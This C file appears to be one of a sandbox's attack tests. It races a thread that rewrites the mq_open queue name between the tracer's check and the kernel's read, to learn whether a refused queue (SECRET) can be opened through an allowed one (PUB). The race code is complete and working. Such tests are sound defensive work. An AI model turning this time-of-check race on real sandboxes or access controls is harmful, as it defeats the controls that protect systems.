/* mq_name_race.c: a thread rewrites the queue name mq_open reads while the call is at its
 * stop: the tracer decides the name it read (PUB, which no rule names) and the kernel, if the
 * name were not held, looks up the one there now (SECRET, whose file a rule refuses).
 *
 *   mq_name_race PUB SECRET   (3 seconds of opens) ESCAPED when an mq_open returned SECRET's queue
 *                              (/proc/self/fd/N reads "/SECRET")
 * Both names the same length (the thread copies whole names). */
#include "attack.h"

static char name[256];
static const char *names[2];
static volatile int stop;

static void *flip(void *arg) {
    (void)arg;
    for (unsigned i = 0; !stop; i++)
        memcpy(name, names[i & 1], strlen(names[0]) + 1);
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 3 || strlen(argv[1]) != strlen(argv[2]) || strlen(argv[1]) > 200)
        usage("mq_name_race PUB SECRET (same length)");
    names[0] = argv[1];
    names[1] = argv[2];
    strcpy(name, argv[1]);
    pthread_t thread;
    if (pthread_create(&thread, NULL, flip, NULL) != 0)
        blocked("pthread_create");
    char want[260], link[300], fdpath[64];
    snprintf(want, sizeof want, "/%s", argv[2]);
    int opened = 0, refused = 0;
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    for (int i = 0;; i++) {
        clock_gettime(CLOCK_MONOTONIC, &now);
        if (now.tv_sec - start.tv_sec >= 3 && opened + refused >= 1000)
            break;  /* (3 seconds: the flipping thread is scheduled on a busy machine too) */
        long fd = syscall(SYS_mq_open, name, O_RDONLY, 0, NULL);
        if (fd < 0) {
            refused++;
            continue;
        }
        opened++;
        snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%ld", fd);
        ssize_t n = readlink(fdpath, link, sizeof link - 1);
        close((int)fd);
        if (n > 0) {
            link[n] = 0;
            if (strcmp(link, want) == 0) {
                stop = 1;
                escaped("mq_open opened %s (try %d)", link, i);
            }
        }
    }
    stop = 1;
    blocked("%d opens, all of the name decided; %d refused", opened, refused);
}
